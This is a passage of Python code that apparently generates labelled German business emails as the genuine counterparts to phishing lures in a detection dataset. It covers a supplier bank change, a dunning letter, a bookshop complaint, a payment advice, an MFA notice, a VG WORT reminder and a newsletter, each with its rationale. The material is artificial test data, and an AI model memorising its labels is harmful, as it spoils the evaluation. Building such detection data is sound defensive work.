        Sehr geehrte Damen und Herren,

        wie bereits im Jahresgespräch mit Herrn Wendt angekündigt, wechselt die Lieferant GmbH zum 01.01.2027 ihre Hausbank. Das von unserer Geschäftsführung unterzeichnete Schreiben finden Sie im Anhang; das Original erhalten Sie zusätzlich per Post.

        Bitte beachten Sie:
        - Rechnungen mit Rechnungsdatum bis einschließlich 31.12.2026 begleichen Sie bitte weiterhin auf unser bisheriges Konto bei der Sparkasse Leipzig (IBAN %s).
        - Erst für Rechnungen ab dem 01.01.2027 gilt die neue Verbindung bei der Leipziger Volksbank eG, IBAN %s, BIC GENODEF1LVB. Die neue Bankverbindung ist ab Januar auch auf jeder Rechnung angegeben.

        Bitte verifizieren Sie die Änderung wie gewohnt telefonisch bei Herrn Maier unter der Ihnen bekannten Rufnummer +49 341 2465-381, bevor Sie Ihre Stammdaten anpassen. Wir werden Sie nie per E-Mail zu einer kurzfristigen Zahlung auf ein anderes Konto auffordern.

        ''' % (bnk(LIEF_OLD), bnk(LIEF_NEW))) + LIEF_SIG_P
    letter = pdf_att('Lieferant_GmbH_Bankverbindung_ab_2027.pdf', [
        ('Lieferant GmbH', 16, True), 'Papiergroßhandel & Druckereibedarf', 'Torgauer Straße 231, 04347 Leipzig', '',
        'Example Group SE', 'Kreditorenbuchhaltung', 'Gerberstraße 14', '04105 Leipzig', '',
        'Leipzig, 20.11.2026', '', ('Änderung unserer Bankverbindung zum 01.01.2027', 12, True), '',
        'Sehr geehrte Damen und Herren,', '',
        'zum 01.01.2027 führen wir unseren Zahlungsverkehr über die Leipziger Volksbank eG.',
        'Für Rechnungen mit Rechnungsdatum bis 31.12.2026 gilt weiterhin:',
        '  Sparkasse Leipzig, IBAN ' + bnk(LIEF_OLD) + ', BIC WELADE8LXXX',
        'Für Rechnungen ab 01.01.2027 gilt:',
        '  Leipziger Volksbank eG, IBAN ' + bnk(LIEF_NEW) + ', BIC GENODEF1LVB', '',
        'Bitte bestätigen Sie die Änderung telefonisch bei Herrn Stefan Maier, Tel. +49 341 2465-381.', '',
        'Mit freundlichen Grüßen', '', 'Heiko Lang                    Stefan Maier', 'Geschäftsführer               Geschäftsführer', '',
        'Amtsgericht Leipzig HRB 18842 - USt-IdNr. ' + LIEF_UST],
        title='Bankverbindung ab 2027', author='Petra Lang', creator='Microsoft® Word für Microsoft 365',
        producer='Microsoft® Word für Microsoft 365', created="D:20261120091533+01'00'")
    add('business', 'de', 'lieferant-bankverbindung-angekuendigt', inf, T('2026-11-20 09:47:22', 'DE'),
        ('Petra Lang', 'p.lang@lieferant-gmbh.de'), [('Rechnungseingang Example Group', 'rechnungen@example.com')],
        'Lieferant GmbH: neue Bankverbindung ab 01.01.2027 – Schreiben der Geschäftsführung',
        mixed(alt(text(body, 'iso-8859-15', 'quoted-printable'),
                  text(html_of(body, 'outlook', 'iso-8859-15'), 'iso-8859-15', 'quoted-printable', 'html')),
              letter),
        cc=[S('sabine.krueger'), S('markus.wendt')], hcs='iso-8859-15',
        what='Supplier announces a change of house bank from 1 January 2027 with a signed letter; old account valid for 2026 invoices',
        why='From the supplier\'s real domain and its usual IONOS mail relay; announced months ahead and previously in person, change only for future invoices, both IBANs at regional banks, asks for telephone verification at the known number, letter also by post',
        pair=('lieferant-neue-bankverbindung', 'Same topic (Lieferant GmbH bank change) - genuine domain and relay, no pressure on due invoices, phone verification requested'))

    # 3 Urgent reminder with supply-stop threat
    inf = I.Ionos(client='tb', client_ip='84.191.204.52')
    body = D('''
        Sehr geehrte Frau Krüger,

        leider konnten wir trotz unserer Zahlungserinnerung vom 12.11.2026 bis heute keinen Zahlungseingang für die folgenden Rechnungen feststellen:

        RE-2026-10655 vom 02.10.2026   14.106,38 EUR   fällig 01.11.2026
        RE-2026-10714 vom 09.10.2026    9.312,28 EUR   fällig 08.11.2026
        Summe                          23.418,66 EUR

        Da das Kreditlimit Ihres Kundenkontos damit überschritten ist, sind wir gezwungen, die noch ausstehenden Lieferungen (Bilderdruckpapier 115 g/m², 14 t für das Druckhaus Elbtal) ab dem 04.12.2026 zurückzuhalten, falls bis zum 03.12.2026 kein Zahlungseingang erfolgt. Das würden wir gerne vermeiden – sollten Reklamationen oder fehlende Lieferscheine der Grund sein, rufen Sie mich bitte direkt an.

        Bitte überweisen Sie wie gewohnt auf unser Konto bei der Sparkasse Leipzig, IBAN %s. Den aktuellen Kontoauszug finden Sie im Anhang.

        Mit freundlichen Grüßen

        Stefan Maier
        Geschäftsführer
        Lieferant GmbH – Papiergroßhandel & Druckereibedarf
        Torgauer Straße 231 | 04347 Leipzig
        Tel. +49 341 2465-381 | s.maier@lieferant-gmbh.de
        ''' % bnk(LIEF_OLD))
    op = pdf_att('Kontoauszug_Kd_20417_2026-11-27.pdf', [
        ('Lieferant GmbH - Kontoauszug Debitor 20417', 13, True), 'Example Group SE, Gerberstraße 14, 04105 Leipzig',
        'Stichtag: 27.11.2026', '',
        'Beleg           Datum       Fällig      Betrag EUR    offen EUR',
        'RE-2026-10655   02.10.2026  01.11.2026   14.106,38    14.106,38',
        'RE-2026-10714   09.10.2026  08.11.2026    9.312,28     9.312,28',
        'RE-2026-11210   30.10.2026  29.11.2026    6.480,90     6.480,90',
        ('Saldo                                               29.899,56', 10, True), '',
        'Kreditlimit: 25.000,00 EUR', 'Bankverbindung: Sparkasse Leipzig, IBAN ' + bnk(LIEF_OLD)],
        title='Kontoauszug', author='Lieferant GmbH', creator='DATEV Kanzlei-Rechnungswesen',
        producer='DATEV PDF', created="D:20261127080210+01'00'", style='tb')
    add('business', 'de', 'lieferant-mahnung-lieferstopp', inf, T('2026-11-27 08:12:10', 'DE'),
        ('Stefan Maier', 's.maier@lieferant-gmbh.de'), [S('sabine.krueger')],
        '2. Mahnung RE-2026-10655 / RE-2026-10714 – Lieferstopp ab 04.12.2026',
        mixed(text(body, 'iso-8859-1', '8bit'), op), cc=[S('markus.wendt')], hcs='iso-8859-1',
        what='Second reminder with threat to withhold paper deliveries unless two overdue invoices are paid by 3 December',
        why='Real supplier domain via its IONOS relay; pressure is about known overdue invoices and a credit limit, payment to the usual account, statement attached, invites a phone call - a genuine, if unfriendly, dunning letter',
        pair=('lieferant-neue-bankverbindung', 'Same supplier, urgent payment demand - but unchanged bank account and real infrastructure'))

    # 4 Bookshop complaint (same customer whose mailbox is later compromised)
    inf = I.M365(domain='buchhandlung-am-markt.de', srv='DB8PR09MB3627', srv2='AS2PR09MB6294', region='eurprd09',
                 ob=('EUR03-DBA-obe.outbound.protection.outlook.com',
                     'mail-dbaeur03on2105.outbound.protection.outlook.com', '40.107.104.105'),
                 content_language='de-DE', client_ip='91.61.112.40')
    body = D('''
        Hallo Herr Baumgärtner,

        mit der Lieferung zu Lieferschein 80051234 (Eingang heute, Spedition) sind leider 12 Exemplare von „Das Schweigen der Wale“ (ISBN %s) beschädigt angekommen – der Karton war durchnässt, die Bücher sind gewellt und nicht verkäuflich. Fotos hänge ich an, den Schaden habe ich beim Fahrer auf dem Lieferschein vermerken lassen.

        Außerdem fehlen 5 Exemplare „Nebelkinder“ (ISBN %s), die auf dem Lieferschein stehen.

        Können Sie mir bitte für beides Ersatz schicken, gern mit der nächsten Tour? Das Wale-Buch ist unser Schaufenstertitel für den ersten Advent, es wäre schön, wenn es bis Freitag klappt. Alternativ bitte eine Gutschrift.

        Viele Grüße aus Göttingen
        Martina Kessler

        Buchhandlung am Markt
        Inh. Martina Kessler e.K.
        Markt 9 | 37073 Göttingen
        Tel. 0551 48 71 20
        ''' % (ISBN_WALE, ISBN_NEBEL))
    add('business', 'de', 'buchhandlung-reklamation-transportschaden', inf, T('2026-11-24 16:31:48', 'DE'),
        ('Martina Kessler', 'm.kessler@buchhandlung-am-markt.de'), [S('felix.baumgaertner')],
        'Reklamation LS 80051234 – beschädigte Exemplare / Fehlmenge',
        mixed(alt(text(body, 'iso-8859-1', 'quoted-printable'),
                  text(html_of(body, 'outlook', 'iso-8859-1'), 'iso-8859-1', 'quoted-printable', 'html')),
              png_att('IMG_4471.png', photo_png('wale1')), png_att('IMG_4472.png', photo_png('wale2'))),
        hcs='iso-8859-1',
        what='Bookshop customer complains about 12 water-damaged copies and 5 missing copies, asks for replacement or credit; two photos',
        why='Sent by the shop owner from her Microsoft 365 tenant from a German access IP, addressed directly to her sales contact, concrete delivery note and ISBNs, no links, images only',
        pair=('buchhandlung-kompromittiert-freigabe', 'Same sender mailbox and tenant one day earlier - but a normal direct mail without links, unlike the Bcc\'d fake share notice'))

    # 5 Genuine payment advice from the wholesaler (SAP output, PDF)
    inf = SV.app_mailer('mx.libra-buchvertrieb.de', '217.6.42.115', 'DE', 'libra-buchvertrieb.de',
                        'sap-prd01.libra.local', 'SAP output via the wholesaler\'s own Postfix')
    body = D('''
        Sehr geehrte Damen und Herren,

        anbei erhalten Sie unser Zahlungsavis Nr. 2000184467. Die Zahlung in Höhe von 38.214,62 EUR erfolgt mit Valuta 20.11.2026 auf Ihr Konto %s.

        Bei Rückfragen wenden Sie sich bitte an zahlungsverkehr@libra-buchvertrieb.de oder Tel. +49 361 55408-220.

        Dies ist eine automatisch erzeugte E-Mail.

        Libra Buchvertrieb GmbH | Am Urbicher Kreuz 18 | 99099 Erfurt
        Geschäftsführung: Andreas Roth | Amtsgericht Jena HRB 502114
        ''' % bnk(EG_DB))
    avis = pdf_att('Zahlungsavis_2000184467.pdf', [
        ('Libra Buchvertrieb GmbH', 14, True), 'Zahlungsavis Nr. 2000184467', 'Zahlungsdatum: 19.11.2026   Valuta: 20.11.2026', '',
        'Zahlungsempfänger: Example Group SE, Leipzig (Lieferant-Nr. 300221)', 'Bankverbindung: ' + bnk(EG_DB), '',
        'Ihre Rechnung    Datum        Betrag EUR   Skonto EUR   Zahlbetrag',
        '9026104418      14.10.2026    12.480,20       249,60    12.230,60',
        '9026104502      21.10.2026    17.306,44       346,13    16.960,31',
        '9026104577      28.10.2026     9.207,85       184,14     9.023,71',
        ('Summe                                                  38.214,62', 10, True)],
        title='Zahlungsavis 2000184467', author='SAP', creator='SAP NetWeaver', producer='SAP NetWeaver',
        created="D:20261119220412+01'00'", style='tb')
    add('business', 'de', 'libra-zahlungsavis', inf, T('2026-11-19 22:04:31', 'DE'),
        ('Libra Buchvertrieb GmbH', 'zahlungsavis@libra-buchvertrieb.de'), [('Debitorenbuchhaltung', 'debitoren@example.com')],
        'Zahlungsavis 2000184467 – Libra Buchvertrieb GmbH',
        mixed(text(body, 'iso-8859-1', 'quoted-printable'), avis), hcs='iso-8859-1',
        what='Automated SAP payment advice from a book wholesaler (customer) listing three invoices, PDF',
        why='From the wholesaler\'s own domain and mail server, night-time batch run, PDF advice with invoice list, no login or link',
        pair=('zahlungsavis-html-anmeldung', 'Same topic and sender name - genuine advice is a PDF from libra-buchvertrieb.de, no sign-in requested'))

    # 6 IT's genuine MFA rollout notice (internal)
    inf = I.ExchangeInternal(client_ip='10.20.40.77')
    body = D('''
        Liebe Kolleginnen und Kollegen,

        bis zum 30.11.2026 stellen wir die Multi-Faktor-Anmeldung für Microsoft 365 vollständig auf die Microsoft-Authenticator-App mit Nummernabgleich um. SMS und Anrufe als zweiter Faktor werden danach abgeschaltet.

        Was Sie tun müssen:
        1. Öffnen Sie an Ihrem Arbeitsplatz-PC https://aka.ms/mysecurityinfo (oder über das Intranet: IT > Sicherheit > MFA).
        2. Fügen Sie dort „Microsoft Authenticator“ hinzu. Der QR-Code wird Ihnen dabei nur auf dieser Microsoft-Seite angezeigt.
        3. Wer bereits die Authenticator-App nutzt, muss nichts tun.

        Wichtig: Wir verschicken niemals QR-Codes oder Anmeldelinks per E-Mail und rufen Sie nicht an, um Codes abzufragen. Nachrichten, die Sie zur „Erneuerung“ Ihrer MFA auffordern, melden Sie bitte über die Schaltfläche „Phishing melden“ in Outlook.

        Fragen beantwortet der Service Desk unter Durchwahl -444 oder im Ticket-Portal.

        Viele Grüße
        Lena Schäfer
        IT-Sicherheit | Example Group SE
        ''')
    add('business', 'de', 'it-mfa-umstellung-authenticator', inf, T('2026-11-10 13:02:44', 'DE'),
        ('Lena Schäfer', 'lena.schaefer@example.com'), [],
        'Umstellung der Multi-Faktor-Anmeldung auf Microsoft Authenticator bis 30.11.',
        alt(text(body, 'iso-8859-1', 'quoted-printable'),
            text(html_of(body, 'outlook', 'iso-8859-1'), 'iso-8859-1', 'quoted-printable', 'html')),
        to_raw='MA-Leipzig <ma-leipzig@example.com>', rcpt='monika.weiss@example.com', hcs='iso-8859-1',
        what='IT security announces the switch of MFA to Microsoft Authenticator with number matching by 30 November',
        why='Internal Exchange route from the IT security officer to a distribution list; sends users to the official aka.ms/mysecurityinfo page, explicitly says QR codes are never mailed',
        pair=('mfa-erneuerung-qr-code', 'Same topic and deadline (MFA by 30.11.) - internal route, official Microsoft URL, no QR code'))

    # 7 Genuine VG Wort information
    inf = SV.app_mailer('mail.vgwort.de', '195.145.157.76', 'DE', 'vgwort.de', 'crm01.vgwort.local',
                        'VG WORT\'s own mail server')
    body = D('''
        Sehr geehrte Damen und Herren,

        wir möchten Sie daran erinnern, dass Meldungen für die Verlagsbeteiligung in der Ausschüttung 2027 bis zum 31. Januar 2027 im Online-Portal T.O.M. (https://tom.vgwort.de) abgegeben werden können.

        Die Hauptausschüttung 2026 wird voraussichtlich in der zweiten Dezemberhälfte ausgezahlt. Die Auszahlung erfolgt auf die in Ihrem Wahrnehmungsvertrag bzw. im Portal hinterlegte Bankverbindung. Änderungen der Bankverbindung nehmen Sie bitte ausschließlich schriftlich oder nach Anmeldung im Portal T.O.M. vor; wir fordern Sie nicht per E-Mail auf, Bankdaten über einen Link zu bestätigen.

        Ihre Karteinummer: V 118 204

        Mit freundlichen Grüßen
        VG WORT – Abteilung Verlage

        Verwertungsgesellschaft WORT
        Untere Weidenstraße 5 | 81543 München
        https://www.vgwort.de
        ''')
    add('business', 'de', 'vgwort-meldefrist-hinweis', inf, T('2026-11-12 10:15:00', 'DE'),
        ('VG WORT', 'service@vgwort.de'), [S('claudia.neumann')],
        'VG WORT: Meldeschluss Verlagsbeteiligung 31.01.2027 / Hauptausschüttung 2026',
        text(body, 'iso-8859-1', 'quoted-printable'), hcs='iso-8859-1',
        what='Collecting society reminds the rights department of the reporting deadline and the December distribution',
        why='From vgwort.de via the society\'s own server, plain text, only refers to the official portal address, no deadline threat, no bank-data request',
        pair=('vgwort-bankverbindung-bestaetigen', 'Same sender brand and topic (distribution 2026) - real domain, no link-based bank confirmation'))

    # 8 Trade newsletter via Brevo with List-Unsubscribe
    inf = I.Brevo(node=54, client_id=2210498, bounce_dom='sender-sib.com')
    base = 'https://3m8xq.r.bh.d.sendibt3.com/tr/cl/'
    plain = D('''
        buchbranche kompakt – Ausgabe 47/2026

        1. Buchhandel im Oktober: Umsatz +3,1 %% gegenüber Vorjahr, Kinderbuch und Hörbuch vorn
        %sTq1

        2. Nachlese Frankfurter Buchmesse: Besucherzahlen, Rechtehandel und die Debatte um KI-Übersetzungen
        %sTq2

        3. Barsortimente: Neue Konditionen für Remissionen ab 2027
        %sTq3

        4. Termine: Leipziger Buchmesse 2027 – Anmeldeschluss für Gemeinschaftsstände
        %sTq4

        Sie erhalten diesen Newsletter, weil Sie ihn mit felix.baumgaertner@example.com abonniert haben.
        Abmelden: https://3m8xq.r.bh.d.sendibt3.com/tr/un/Tq9
        buchbranche kompakt | Fachinformationsdienst GmbH | Schillerstraße 33 | 04109 Leipzig
        ''' % (base, base, base, base))
    items = [('Buchhandel im Oktober: Umsatz +3,1 % gegenüber Vorjahr', 'Kinderbuch und Hörbuch wachsen am stärksten, Sachbuch stabil.', 'Tq1'),
             ('Nachlese Frankfurter Buchmesse', 'Besucherzahlen, Rechtehandel und die Debatte um KI-Übersetzungen.', 'Tq2'),
             ('Barsortimente: neue Remissionskonditionen ab 2027', 'Was Verlage jetzt mit ihren Handelspartnern klären sollten.', 'Tq3'),
             ('Leipziger Buchmesse 2027', 'Anmeldeschluss für Gemeinschaftsstände ist der 15. Januar.', 'Tq4')]
    rows = ''.join('<tr><td style="padding:14px 24px;border-bottom:1px solid #eee"><a href="%s%s" style="color:#1a4d8f;font-size:17px;font-weight:bold;text-decoration:none">%s</a><p style="margin:6px 0 0 0;color:#444;font-size:14px">%s</p></td></tr>\n'
                   % (base, k, esc(t), esc(d)) for t, d, k in items)
    html = ('<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
            '<title>buchbranche kompakt 47/2026</title></head>\n<body style="margin:0;background:#f4f4f4;font-family:Georgia,serif">\n'
            '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">\n'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">\n'
            '<tr><td style="padding:20px 24px;background:#1a4d8f;color:#fff;font-size:24px">buchbranche kompakt <span style="font-size:14px">47/2026</span></td></tr>\n'
            + rows +
            '<tr><td style="padding:18px 24px;font-size:11px;color:#888;font-family:Arial">Sie erhalten diesen Newsletter, weil Sie ihn mit felix.baumgaertner@example.com abonniert haben. '
            '<a href="https://3m8xq.r.bh.d.sendibt3.com/tr/un/Tq9" style="color:#888">Abmelden</a><br>buchbranche kompakt | Fachinformationsdienst GmbH | Schillerstraße 33 | 04109 Leipzig</td></tr>\n'
            '</table></td></tr></table>\n<img width="1" height="1" alt="" src="https://3m8xq.r.bh.d.sendibt3.com/tr/op/Tq0">\n</body></html>\n')
    add('business', 'de', 'newsletter-buchbranche-kompakt', inf, T('2026-11-20 06:00:12', 'DE'),
        ('buchbranche kompakt', 'newsletter@buchbranche-kompakt.de'), [S('felix.baumgaertner')],
        'Buchhandel im Oktober +3,1 % | Messe-Nachlese | Remissionen 2027',
        alt(text(plain, 'utf-8', 'quoted-printable'), text(html, 'utf-8', 'quoted-printable', 'html')),
        extra=[('List-Unsubscribe', '<https://3m8xq.r.bh.d.sendibt3.com/tr/un/Tq9>, <mailto:unsubscribe-2210498@sender-sib.com>'),
               ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('Precedence', 'bulk')],
        what='Weekly trade newsletter (book market figures, book fair review) subscribed by sales',
        why='Subscribed newsletter via Brevo with List-Unsubscribe / one-click, publisher\'s own domain, tracked links only to articles, no request for credentials or payment',
        pair=('vgwort-bankverbindung-bestaetigen,buchmesse-standabrechnung-clickfix', 'Same ESP (Brevo) and bulk format as the VG WORT lure; covers the book fair that the ClickFix lure abuses'))
